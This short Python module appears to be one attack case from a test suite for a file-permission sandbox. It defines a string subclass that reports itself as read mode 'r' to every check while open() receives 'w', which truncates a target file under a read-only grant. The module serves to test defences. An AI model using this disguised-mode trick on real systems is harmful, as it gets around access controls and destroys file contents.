"""A mode that says it is for reading."""
CATEGORY = "races"
REACH = "write"
GRANT = {"read": True}

from . import payload


class Mode(str):
    __str__ = __repr__ = lambda self: "r"
    __eq__ = lambda self, other: other == "r"
    __hash__ = lambda self: hash("r")
    __contains__ = lambda self, letter: letter == "r"
    __iter__ = lambda self: iter("r")


def attack():
    open(payload.TARGET, Mode("w")).close()
